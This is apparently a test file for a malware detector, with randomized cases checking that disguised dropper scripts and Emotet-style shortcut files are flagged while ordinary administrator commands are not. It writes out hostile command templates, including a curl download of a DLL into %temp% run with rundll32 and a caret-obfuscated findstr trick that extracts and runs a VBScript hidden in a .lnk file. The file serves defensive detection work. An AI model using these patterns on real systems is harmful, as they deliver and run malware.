"""Droppers drawn by chance are found whatever their disguise; honest scripts and things drawn by chance are left alone."""

from __future__ import annotations

import random
from collections.abc import Callable

import pytest
from support import dropper_draws as draws
from support.looking import HERE, found

from mimawari.model import Finding, Script, Shortcut, Strength

_CMD = r"C:\Windows\System32\cmd.exe"
SEEDS = range(25)


def look(text: str, language: str, host: str = "wscript") -> Finding:
    (finding,) = found([Script(origin=HERE, name="x", language=language, host=host, text=text)], only="script-dropper")
    return finding


@pytest.mark.parametrize("disguise", draws.JAVASCRIPT, ids=lambda one: one.__name__)
@pytest.mark.parametrize("seed", SEEDS)
def test_javascript_with_emotets_list(disguise: Callable[[random.Random, str], str], seed: int) -> None:
    draw = random.Random(seed)
    finding = look(draws.javascript(draw, draws.sites(draw), disguise), "javascript")
    assert (finding.family, finding.strength) == ("emotet", Strength.STRONG)


@pytest.mark.parametrize("disguise", draws.JAVASCRIPT, ids=lambda one: one.__name__)
@pytest.mark.parametrize("seed", SEEDS)
def test_javascript_with_one_address_has_no_family(disguise: Callable[[random.Random, str], str], seed: int) -> None:
    draw = random.Random(seed)
    finding = look(draws.javascript(draw, [draws.number(draw)], disguise), "javascript")
    assert (finding.family, finding.strength) == (None, Strength.STRONG)


@pytest.mark.parametrize("disguise", draws.VBSCRIPT, ids=lambda one: one.__name__)
@pytest.mark.parametrize("seed", SEEDS)
def test_vbscript_with_emotets_list(disguise: Callable[[random.Random, str], str], seed: int) -> None:
    draw = random.Random(seed)
    finding = look(draws.vbscript(draw, draws.sites(draw), disguise, "regsvr32.exe /s "), "vbscript")
    assert (finding.family, finding.strength, finding.era) == ("emotet", Strength.STRONG, ("P6", "P8"))


@pytest.mark.parametrize("seed", SEEDS)
def test_batch_files(seed: int) -> None:
    draw = random.Random(seed)
    command = f"curl {draws.number(draw)} -o %temp%\\{draws.word(draw)}.dll & rundll32 %temp%\\{draws.word(draw)}.dll,start"
    for disguise in (draws.batch_cut, draws.batch_carets):
        finding = look(disguise(draw, command), "batch", "shell")
        assert (finding.family, finding.strength) == (None, Strength.STRONG)


@pytest.mark.parametrize("seed", SEEDS)
def test_powershell_in_the_open_and_in_base64(seed: int) -> None:
    draw = random.Random(seed)
    plain = draws.powershell(draw, draws.number(draw))
    assert look(plain, "powershell", "shell").strength is Strength.STRONG
    assert look("@echo off\n" + draws.encoded(draw, plain), "batch", "shell").strength is Strength.STRONG


@pytest.mark.parametrize("seed", range(100))
def test_emotets_shortcut_whatever_its_words(seed: int) -> None:
    draw = random.Random(seed)
    lines, name = draws.word(draw, 15, 15), f"{draws.word(draw)}_{draw.randint(10**4, 10**8)}.lnk"
    where = draw.choice(("%tmp%", "%TEMP%"))
    arguments = f'/v:on /c findstr "{lines}.*" "{name}" > "{where}\\{draws.word(draw)}.vbs" & "{where}\\{draws.word(draw)}.vbs"'
    if draw.random() < 0.5:
        arguments = arguments.replace("findstr", "fi^nd^str")
    link = Shortcut(origin=HERE, name=name, target=_CMD, arguments=arguments, appended=9000, appended_text=f"{lines} = 1\n")
    (finding,) = found([link], only="shortcut-command")
    assert (finding.family, finding.strength) == ("emotet", Strength.STRONG)


@pytest.mark.parametrize("seed", SEEDS)
def test_a_shortcut_of_another_malware_has_no_family(seed: int) -> None:
    draw = random.Random(seed)
    arguments = "/c " + draws.encoded(draw, draws.powershell(draw, draws.number(draw)))
    (finding,) = found([Shortcut(origin=HERE, name="x.lnk", target=_CMD, arguments=arguments)], only="shortcut-command")
    assert (finding.family, finding.strength) == (None, Strength.STRONG)


def honest_command(draw: random.Random) -> str:
    server, tool = draw.choice(("filesv01", "dc01", "192.168.1.5")), draws.word(draw)
    return draw.choice(
        (
            rf"/c \\{server}\netlogon\{tool}.bat",
            rf'/k "C:\Program Files\{tool}\env.cmd" x64',
            rf"/c start /min robocopy C:\data \\{server}\backup /MIR",
            rf"/c net use S: \\{server}\share & start S:\{tool}.xlsm",
            rf'/c powershell -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File "C:\Tools\{tool}.ps1"',
            rf"/c wscript //nologo \\{server}\scripts\{tool}.vbs",
            rf"/c findstr /s /i {tool} C:\logs\*.txt > %TEMP%\{tool}.txt && notepad %TEMP%\{tool}.txt",
            rf"/c rundll32.exe printui.dll,PrintUIEntry /in /n \\{server}\{tool}",
            rf"/c regsvr32 /s C:\Windows\System32\{tool}.ocx",
            "/c taskkill /im excel.exe /f & timeout 3",
            rf"/c curl http://{server}/status",
        )
    )


@pytest.mark.parametrize("seed", range(200))
def test_administrators_shortcuts_are_left_alone(seed: int) -> None:
    draw = random.Random(seed)
    link = Shortcut(
        origin=HERE, name=f"{draws.word(draw)}.lnk", target=_CMD, arguments=honest_command(draw), show=draw.choice((1, 7))
    )
    assert [finding for finding in found([link]) if finding.strength > Strength.HINT] == []


@pytest.mark.parametrize("seed", range(200))
def test_administrators_scripts_are_left_alone(seed: int) -> None:
    draw = random.Random(seed)
    lines = [honest_command(draw).removeprefix("/c ").removeprefix("/k ") for _ in range(draw.randint(2, 8))]
    script = Script(origin=HERE, name="logon.bat", language="batch", host="shell", text="@echo off\n" + "\n".join(lines) + "\n")
    assert [finding for finding in found([script]) if finding.strength > Strength.HINT] == []


@pytest.mark.parametrize("seed", SEEDS)
def test_an_honest_list_of_mirrors_is_not_emotets(seed: int) -> None:
    draw = random.Random(seed)
    mirrors = [f"https://{host}/releases/v{draw.randint(1, 9)}/{draws.word(draw)}-setup.exe" for host in draws.HOSTS]
    finding = look(draws.javascript(draw, mirrors, draws.js_added), "javascript")
    assert finding.family is None
